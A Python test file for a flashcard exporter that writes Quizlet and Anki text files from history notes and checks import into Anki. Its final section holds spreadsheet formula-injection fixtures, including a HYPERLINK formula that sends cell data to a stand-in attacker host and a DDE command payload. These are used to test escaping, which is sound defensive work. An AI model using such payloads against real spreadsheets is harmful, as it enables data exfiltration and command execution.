"""Tab-separated export for Quizlet and for Anki's text import (imported into real Anki)."""

from __future__ import annotations

import csv
import html
import io
from pathlib import Path

import pytest
from anki.collection import Collection, ImportCsvRequest
from anki.notes import Note
from history_cards import NOTEBOOK, PAGE_TITLES, edited_cards, sample_cards

from notedeck.export.csv import ANKI_HEADER, export_csv
from notedeck.export.report import ExportError
from notedeck.model import Card, CardKind, Source

COLUMNS = ["guid", "notetype", "deck", "front", "back", "tags"]


def _quizlet_rows(cards: list[Card]) -> dict[str, list[str]]:
    out = io.StringIO()
    report = export_csv(cards, out, style="quizlet")
    assert (report.format, report.path, report.notes, report.cards) == ("csv-quizlet", None, 9, 9)
    text = out.getvalue()
    assert text.count("\n") == len(cards)  # one line per card: no raw newline inside a field
    rows = list(csv.reader(io.StringIO(text), delimiter="\t", quoting=csv.QUOTE_NONE))
    assert all(len(row) == 2 for row in rows)
    return {card.id: row for card, row in zip(cards, rows, strict=True)}


def test_quizlet_is_term_tab_definition_in_plain_text(cards: list[Card]) -> None:
    rows = _quizlet_rows(cards)

    assert rows["nd-basic-dawes"] == [
        "What was the Dawes Plan?",
        "1924: US loans to Germany and reparations rescheduled",
    ]
    assert rows["nd-cloze-ruhr"] == [
        "In [...] French and Belgian troops occupied the [...]",
        "1923; Ruhr",
    ]
    assert rows["nd-term-enabling"] == [
        "The [...] let Hitler make laws without the Reichstag",
        "Enabling Act",
    ]
    assert rows["nd-date-chancellor"] == ["[...]: Hitler is appointed Chancellor", "January 1933"]
    assert rows["nd-factor-acerbo"][1] == "passed in 1923; two-thirds of seats to the largest party"
    assert rows["nd-seq-1920s"][1] == (
        "Munich Putsch (1923); Dawes Plan (1924); Wall Street Crash (1929)"
    )
    assert rows["nd-basic-truman"][1] == "1947 promise to support; free peoples against communism"
    assert rows["nd-basic-hyper"] == ["Hyperinflation peak", "4.2 trillion marks to the dollar"]


def _read_anki_file(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    lines = path.read_text(encoding="utf-8").split("\n")
    header = [line for line in lines if line.startswith("#")]
    body = "\n".join(lines[len(header) :])
    rows = [
        dict(zip(COLUMNS, row, strict=True))
        for row in csv.reader(io.StringIO(body), delimiter="\t")
    ]
    return header, rows


def _export_anki_text(cards: list[Card], path: Path) -> Path:
    report = export_csv(cards, path, style="anki", deck_name=NOTEBOOK, page_titles=PAGE_TITLES)
    assert report.path == path
    return path


def test_anki_text_has_file_headers_guids_notetypes_decks_and_tags(
    tmp_path: Path, cards: list[Card]
) -> None:
    path = tmp_path / "out" / "cards.txt"
    report = export_csv(cards, path, style="anki", deck_name=NOTEBOOK, page_titles=PAGE_TITLES)
    assert (report.format, report.notes, report.cards, len(report.decks)) == ("csv-anki", 9, 11, 5)

    header, rows = _read_anki_file(path)
    assert tuple(header) == ANKI_HEADER
    by_guid = {row["guid"]: row for row in rows}
    assert list(by_guid) == [card.id for card in cards]

    assert by_guid["nd-basic-dawes"] == {
        "guid": "nd-basic-dawes",
        "notetype": "Basic",
        "deck": "Modern History::🇩🇪 Weimar Republic::Stresemann's recovery",
        "front": "What was the <strong>Dawes Plan</strong>?",
        "back": "1924: US loans to Germany and reparations rescheduled",
        "tags": "weimar-republic Stresemann's_recovery Economic_recovery",
    }
    assert by_guid["nd-rev-reichstag"]["notetype"] == "Basic (and reversed card)"
    assert by_guid["nd-cloze-ruhr"]["notetype"] == "Cloze"
    assert by_guid["nd-date-chancellor"]["notetype"] == "Basic"
    assert by_guid["nd-basic-truman"]["back"] == (
        "1947 promise to support<br>free peoples against communism"
    )
    assert by_guid["nd-basic-hyper"]["back"] == '<img src="x"> 4.2 trillion marks to the dollar'
    assert "script" not in path.read_text(encoding="utf-8")


def _notes(col: Collection) -> dict[str, Note]:
    notes = (col.get_note(nid) for nid in col.find_notes(""))
    return {note.guid: note for note in notes}


def _import_text(col: Collection, path: Path) -> None:
    metadata = col.get_csv_metadata(str(path), None)  # what Anki's import dialog reads
    assert (metadata.guid_column, metadata.notetype_column, metadata.deck_column) == (1, 2, 3)
    assert (metadata.tags_column, metadata.is_html) == (6, True)
    col.import_csv(ImportCsvRequest(path=str(path), metadata=metadata))


def test_anki_text_imports_into_anki_and_reimports_by_guid(
    tmp_path: Path, collection: Collection
) -> None:
    _import_text(collection, _export_anki_text(sample_cards(), tmp_path / "v1.txt"))

    assert collection.note_count() == 9
    assert collection.card_count() == 11
    notes = _notes(collection)
    assert set(notes) == {card.id for card in sample_cards()}
    ruhr = notes["nd-cloze-ruhr"]
    assert ruhr.note_type()["name"] == "Cloze"  # type: ignore[index]
    assert ruhr["Text"] == "In {{c1::1923}} French and Belgian troops occupied the {{c2::Ruhr}}"
    assert {collection.decks.name(c.did) for c in ruhr.cards()} == {
        "Modern History::🇩🇪 Weimar Republic::Crisis years 1919–1923"
    }
    assert notes["nd-basic-hyper"]["Back"] == '<img src="x"> 4.2 trillion marks to the dollar'
    assert sorted(notes["nd-basic-dawes"].tags) == [
        "Economic_recovery",
        "Stresemann's_recovery",
        "weimar-republic",
    ]

    dawes_card = notes["nd-basic-dawes"].cards()[0]
    dawes_card.start_timer()
    collection.sched.answerCard(dawes_card, 3)
    reviewed = collection.get_card(dawes_card.id)

    _import_text(collection, _export_anki_text(edited_cards(), tmp_path / "v2.txt"))

    notes = _notes(collection)
    assert collection.note_count() == 10  # matched by GUID: updated, not duplicated
    assert notes["nd-basic-dawes"]["Back"] == "1924: $800m of US loans; reparations cut"
    after = collection.get_card(dawes_card.id)
    assert (after.ivl, after.reps, after.due, after.queue) == (
        reviewed.ivl,
        reviewed.reps,
        reviewed.due,
        reviewed.queue,
    )


def test_unwritable_path_raises_and_leaves_nothing(tmp_path: Path, cards: list[Card]) -> None:
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("", encoding="utf-8")
    with pytest.raises(ExportError, match="cannot write"):
        export_csv(cards, blocker / "cards.txt", style="quizlet")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["not-a-folder"]


def test_unknown_style_raises(cards: list[Card]) -> None:
    with pytest.raises(ExportError, match="unknown CSV style 'tsv'"):
        export_csv(cards, io.StringIO(), style="tsv")  # type: ignore[arg-type]


# ---------------------------------------------------------------- formula injection

FORMULAS = {
    "nd-eq": ('=HYPERLINK("http://evil.example/?"&A1, "Click")', "=1+1"),
    "nd-plus": ("+SUM(A1:A9)", "+44 20 7946 0000"),
    "nd-minus": ("-5 degrees at Stalingrad", "-2+3"),
    "nd-at": ("@SUM(A1)", "@cmd"),
    "nd-safe": ("Who signed the Treaty?", "Ebert = president"),
}


def _formula_cards() -> list[Card]:
    return [
        Card(
            card_id,
            CardKind.BASIC,
            front,
            back,
            Source("hostile.md", "=cmd|' /C calc'!A0", None, 1),
        )
        for card_id, (front, back) in FORMULAS.items()
    ]


def test_quizlet_cells_that_a_spreadsheet_would_run_get_a_leading_quote() -> None:
    out = io.StringIO()
    export_csv(_formula_cards(), out, style="quizlet")
    rows = [line.split("\t") for line in out.getvalue().splitlines()]
    assert rows == [
        ["'" + front, "'" + back] if card_id != "nd-safe" else [front, back]
        for card_id, (front, back) in FORMULAS.items()
    ]


def test_anki_text_cells_cannot_start_a_formula_and_anki_shows_the_exact_text(
    tmp_path: Path, collection: Collection
) -> None:
    path = tmp_path / "cards.txt"
    export_csv(_formula_cards(), path, style="anki", deck_name="=Notes", page_titles={})
    _, rows = _read_anki_file(path)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    by_guid = {row["guid"]: row for row in rows}
    assert by_guid["nd-eq"]["front"].startswith("&#61;HYPERLINK(")
    assert by_guid["nd-minus"]["back"] == "&#45;2+3"
    assert by_guid["nd-safe"]["front"] == "Who signed the Treaty?"
    assert by_guid["nd-eq"]["deck"].startswith("'=Notes::hostile::")

    _import_text(collection, path)
    notes = _notes(collection)
    assert notes["nd-minus"]["Front"] == "&#45;5 degrees at Stalingrad"  # stored as written,
    rendered = notes["nd-minus"].cards()[0].question()  # and shown as the student wrote it
    assert "-5 degrees at Stalingrad" in html.unescape(rendered)
